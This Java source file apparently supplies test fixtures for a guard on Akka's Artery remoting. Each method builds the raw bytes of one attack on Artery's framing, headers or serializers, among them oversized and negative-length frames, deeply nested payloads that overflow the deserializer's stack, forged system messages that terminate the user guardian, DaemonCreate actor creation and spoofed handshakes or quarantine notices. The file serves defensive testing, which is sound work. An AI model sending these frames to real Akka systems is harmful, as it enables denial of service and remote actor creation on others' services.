package io.comity.transport.artery.guard;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;

/**
 * The attacks on Artery's framing, header and serializers, as the bytes that carry them, for loopback only. Each method gives
 * one connection's bytes from the magic on. Pure: the class needs nothing but the JDK.
 *
 * <p>{@code uid} is the Artery uid to claim; {@code victim} the address of the ActorSystem under attack, such as
 * {@code akka://comity@127.0.0.1:4711}.
 */
public final class HostileFrames {
    public static final int CONTROL = 1;
    public static final int ORDINARY = 2;
    public static final int LARGE = 3;

    private static final int NULL = 0;
    private static final int JAVA = 1;
    private static final int DAEMON_CREATE = 3;
    private static final int CONTAINERS = 6;
    private static final int MISC = 16;
    private static final int ARTERY = 17;
    private static final int STRING = 20;
    private static final int SYSTEM_MESSAGES = 22;

    private HostileFrames() {}

    /** P1: a length below zero, which sends a stock parser round in circles. */
    public static byte[] negativeLength() {
        return stream(ORDINARY, new byte[] {(byte) 0xfc, -1, -1, -1});
    }

    /** P2: the beginning of a frame of two gigabytes. */
    public static byte[] hugeFrame() {
        return stream(ORDINARY, littleEndian(0x7ffffff0), new byte[256 * 1_024]);
    }

    /** P3: six recipients below {@code /remote}, each of which stalls every peer of a stock system for a second. */
    public static byte[] remoteRecipients(String victim, long uid) {
        byte[][] frames = new byte[6][];
        for (int i = 0; i < frames.length; i++) {
            frames[i] = frame(envelope(uid, STRING, "", victim + "/remote/x" + i, "", "x".getBytes(UTF_8)));
        }
        return stream(ORDINARY, frames);
    }

    /** P4: compressed sender and manifest, for each of which a stock system builds tables per uid. */
    public static byte[] compressedTags(String victim, long uid) {
        byte[] envelope = envelope(uid, STRING, "", victim + "/user/gateway", "", new byte[0]);
        ByteBuffer fields = ByteBuffer.wrap(envelope).order(ByteOrder.LITTLE_ENDIAN);
        fields.putInt(16, 0x80000001).putInt(24, 0x80000001);
        return stream(ORDINARY, frame(envelope));
    }

    /** P5: a header of nothing but ones. */
    public static byte[] garbageHeader() {
        byte[] envelope = new byte[100];
        java.util.Arrays.fill(envelope, (byte) -1);
        return stream(ORDINARY, frame(envelope));
    }

    /** P5: a serializer that does not exist. */
    public static byte[] unknownSerializer(String victim, long uid) {
        return toGateway(victim, uid, 4_711, "", new byte[10]);
    }

    /** P8: the stream for large messages. */
    public static byte[] largeStream(String victim, long uid) {
        return stream(LARGE, frame(envelope(uid, STRING, "", victim + "/user/gateway", "", new byte[10])));
    }

    /** A first byte that is not Artery's. */
    public static byte[] wrongMagic() {
        return "GET / HTTP/1.1\r\n\r\n".getBytes(UTF_8);
    }

    /** D1: five thousand options inside each other, which overflow the stack of a stock deserializer and end the process. */
    public static byte[] nestedOptions(String victim, long uid) {
        byte[] inner = new byte[0];
        for (int i = 0; i < 5_000; i++) {
            inner = payload(inner);
        }
        return toGateway(victim, uid, MISC, "D", inner);
    }

    /** D4: a plain string for any actor. */
    public static byte[] string(String victim, long uid) {
        return toGateway(victim, uid, STRING, "", "hello".getBytes(UTF_8));
    }

    /** D4: PoisonPill for the gateway. */
    public static byte[] poisonPill(String victim, long uid) {
        return toGateway(victim, uid, MISC, "P", new byte[0]);
    }

    /** D4: a selection of all user actors. */
    public static byte[] selection(String victim, long uid) {
        return toGateway(victim, uid, CONTAINERS, "B", new byte[] {8, 20});
    }

    /** D4: the system message that ends the user guardian, and so the system. */
    public static byte[] terminateGuardian(String victim, long uid) {
        return stream(CONTROL, frame(envelope(uid, SYSTEM_MESSAGES, "", victim + "/user", "", new byte[] {8, 4})));
    }

    /** D4: Java serialization. */
    public static byte[] javaObject(String victim, long uid) {
        return toGateway(victim, uid, JAVA, "java.lang.String", new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 't', 0, 0});
    }

    /** D5: make an actor of any class, with any arguments. */
    public static byte[] daemonCreate(String victim, long uid) {
        return stream(
                CONTROL, frame(envelope(uid, DAEMON_CREATE, "", victim + "/remote", "", new byte[] {10, 2, 8, 1})));
    }

    /** D6 on a stock system: a greeting from the victim's own address, in Akka's own form. */
    public static byte[] selfAddress(String victim, long uid) {
        return stream(CONTROL, frame(envelope(uid, ARTERY, "", "", "d", handshake(victim, uid, victim))));
    }

    /** D8: no recipient. */
    public static byte[] noRecipient(long uid) {
        return stream(ORDINARY, frame(envelope(uid, STRING, "", "", "", "x".getBytes(UTF_8))));
    }

    /** D9: the serializer that gives null. */
    public static byte[] nullSerializer(String victim, long uid) {
        return toGateway(victim, uid, NULL, "", new byte[0]);
    }

    /** D10: "I, the owner of this uid, am going away", in another's name. */
    public static byte[] terminating(String whose, String victim, long uid) {
        byte[] body = field(1, uniqueAddress(whose, uid));
        return stream(CONTROL, frame(envelope(uid, ARTERY, victim + "/user/gateway", "", "b", body)));
    }

    /** D12: "I have quarantined you". */
    public static byte[] quarantined(String victim, long victimUid, long uid) {
        byte[] body = join(field(1, uniqueAddress(victim, uid)), field(2, uniqueAddress(victim, victimUid)));
        return stream(CONTROL, frame(envelope(uid, ARTERY, "", "", "a", body)));
    }

    /** D15: a system message to be acknowledged to an address of the attacker's choice. */
    public static byte[] systemMessage(String victim, long uid) {
        byte[] body =
                join(field(1, new byte[] {8, 4}), new byte[] {16, 22, 24, 1}, field(5, uniqueAddress(victim, uid)));
        return stream(CONTROL, frame(envelope(uid, ARTERY, "", victim + "/user", "j", body)));
    }

    /** A packet in a form that is right but for one thing: recipient, sender, serializer or manifest as given. */
    public static byte[] packet(
            long uid, int serializer, String sender, String recipient, String manifest, byte[] body) {
        return stream(ORDINARY, frame(envelope(uid, serializer, sender, recipient, manifest, body)));
    }

    /** One connection's bytes: magic, stream, and what follows. */
    public static byte[] stream(int stream, byte[]... rest) {
        return join(new byte[] {'A', 'K', 'K', 'A', (byte) stream}, join(rest));
    }

    /** A length and an envelope. */
    public static byte[] frame(byte[] envelope) {
        return join(littleEndian(envelope.length), envelope);
    }

    /** Artery's envelope as stock Akka writes it without compression. */
    public static byte[] envelope(
            long uid, int serializer, String sender, String recipient, String manifest, byte[] body) {
        int senderTag = 28;
        int recipientTag = senderTag + 2 + sender.length();
        int manifestTag = recipientTag + 2 + recipient.length();
        return ByteBuffer.allocate(manifestTag + 2 + manifest.length() + body.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0)
                .putLong(uid)
                .putInt(serializer)
                .putInt(senderTag)
                .putInt(recipientTag)
                .putInt(manifestTag)
                .put(literal(sender))
                .put(literal(recipient))
                .put(literal(manifest))
                .put(body)
                .array();
    }

    private static byte[] toGateway(String victim, long uid, int serializer, String manifest, byte[] body) {
        return packet(uid, serializer, "", victim + "/user/gateway", manifest, body);
    }

    private static byte[] handshake(String from, long uid, String to) {
        return join(field(1, uniqueAddress(from, uid)), field(2, address(to)));
    }

    private static byte[] uniqueAddress(String address, long uid) {
        return join(field(1, address(address)), new byte[] {16}, varint(uid));
    }

    /** {@code protocol://system@host:port}. */
    private static byte[] address(String text) {
        String[] parts = text.split("://|@|:(?=\\d+$)");
        return join(
                field(1, parts[1].getBytes(UTF_8)),
                field(2, parts[2].getBytes(UTF_8)),
                new byte[] {24},
                varint(Long.parseLong(parts[3])),
                field(4, parts[0].getBytes(UTF_8)));
    }

    /** One option around {@code inner}: a payload of serializer 16, manifest D. */
    private static byte[] payload(byte[] inner) {
        return field(1, join(field(1, inner), new byte[] {16, 16}, field(4, new byte[] {'D'})));
    }

    private static byte[] field(int number, byte[] content) {
        return join(new byte[] {(byte) (number << 3 | 2)}, varint(content.length), content);
    }

    private static byte[] varint(long value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long rest = value;
        while ((rest & ~0x7fL) != 0) {
            out.write((int) (rest & 0x7f | 0x80));
            rest >>>= 7;
        }
        out.write((int) rest);
        return out.toByteArray();
    }

    private static byte[] literal(String text) {
        byte[] bytes = text.getBytes(UTF_8);
        return ByteBuffer.allocate(2 + bytes.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putShort((short) bytes.length)
                .put(bytes)
                .array();
    }

    private static byte[] littleEndian(int value) {
        return ByteBuffer.allocate(Integer.BYTES)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(value)
                .array();
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
